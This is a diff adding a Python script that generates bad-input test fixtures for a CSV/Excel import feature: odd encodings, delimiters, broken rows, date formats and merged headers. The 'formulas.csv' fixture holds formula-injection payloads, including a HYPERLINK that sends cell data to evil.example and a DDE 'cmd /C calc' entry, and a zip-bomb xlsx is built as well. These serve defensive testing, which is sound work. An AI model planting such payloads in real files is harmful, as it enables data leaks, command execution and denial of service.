@@ -1,0 +1,93 @@
+"""Writes the bad-input files of tests/imports/files (run once; the files are committed, this says how they
+were made): `python tests/imports/files/make_files.py`."""
+
+import csv
+import io
+import pathlib
+import zipfile
+
+import openpyxl
+
+HERE = pathlib.Path(__file__).parent
+NBSP = "\u00a0"
+
+HEADER = "Название;ИНН;КПП;Ответственный;Выручка;Дата договора"
+ROWS = [
+    f"ООО «Ромашка»;7707083893;770701001;Смирнова Ольга;1{NBSP}234{NBSP}567,89;31.12.2025",
+    "АО «Вектор»;7736207543;;Петров Иван;12 500;01.02.2024",
+    "ИП Соколов А.В.;500100732259;;Смирнова Ольга;0,5;2024-03-15",
+]
+
+
+def write(name: str, data: bytes) -> None:
+    (HERE / name).write_bytes(data)
+
+
+def main() -> None:
+    text = "\r\n".join([HEADER, *ROWS, ";;;;;", ""])  # Excel's line ends and a trailing empty row
+    write("accounts_cp1251.csv", text.encode("cp1251"))
+    comma = "\n".join(
+        [
+            "Account Name,INN,Account Owner,Billing Address",
+            '"Romashka, LLC",7707083893,olga@example.com,"Moscow,\nTverskaya 1"',
+            "Vector JSC,7736207543,ivan,",
+            "",
+        ]
+    )
+    write("accounts_utf8_bom.csv", b"\xef\xbb\xbf" + comma.encode("utf-8"))
+    write("accounts_tab.csv", "Название\tИНН\nРомашка\t7707083893\n".encode())
+    mixed = "\n".join([HEADER, ROWS[0], "АО «Вектор»,7736207543,,Петров Иван,12 500,01.02.2024", ROWS[2], ""])
+    write("mixed_delimiters.csv", mixed.encode("utf-8"))
+    broken = "\n".join([HEADER, ROWS[0], '"АО Вектор;7736207543;;Петров Иван;12 500;01.02.2024', ROWS[2], ""])
+    write("broken_row.csv", broken.encode("utf-8"))
+    write("empty.csv", b"")
+    write("header_only.csv", (HEADER + "\r\n").encode("cp1251"))
+    write("ten_thousand_columns.csv", (";".join(f"c{i}" for i in range(10_000)) + "\n").encode())
+    dates = "\n".join(["Название;Дата", "А;31.12.2025", "Б;2025-12-31", "В;46022", "Г;12/31/2024", ""])
+    write("dates_three_formats.csv", dates.encode("utf-8"))
+    formulas = io.StringIO()
+    writer = csv.writer(formulas, delimiter=";", lineterminator="\r\n")  # quoted as Excel writes them
+    writer.writerows(
+        [
+            ["Название", "ИНН"],
+            ['=HYPERLINK("http://evil.example/?"&A1;"Нажми")', "7707083893"],
+            ["@SUM(1+1)", "7736207543"],
+            ["+cmd|' /C calc'!A0", "7736207543"],
+        ]
+    )
+    write("formulas.csv", formulas.getvalue().encode("utf-8"))
+    write("not_a_spreadsheet.xlsx", b"%PDF-1.4\n% this is a PDF renamed to .xlsx\n")
+    bomb = io.BytesIO()
+    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
+        archive.writestr("xl/workbook.xml", "<workbook/>")
+        archive.writestr("xl/worksheets/sheet1.xml", b" " * (300 * 1024 * 1024))
+    write("zip_bomb.xlsx", bomb.getvalue())
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.title = "Клиенты"
+    sheet.append(["Выгрузка клиентов на 01.12.2026"])
+    sheet.append([])
+    sheet.append(["Компания", None, "Контакт", None, "Ответственный", "Дата договора"])
+    sheet.merge_cells("A3:B3")
+    sheet.merge_cells("C3:D3")
+    sheet.append(["Название", "ИНН", "Имя", "Телефон", None])
+    import datetime as dt
+
+    sheet.append(
+        [
+            "ООО «Ромашка»",
+            "7707083893",
+            "Ольга",
+            "+7 495 123-45-67",
+            "Смирнова Ольга",
+            dt.datetime(2025, 12, 31),
+        ]
+    )
+    sheet.append(["АО «Вектор»", 7736207543, "Иван", None, "Петров Иван", 46022, None, None])
+    sheet.append([None, None, None])
+    sheet.cell(row=8, column=12, value=None)
+    book.save(HERE / "merged_header.xlsx")
+
+
+if __name__ == "__main__":
+    main()
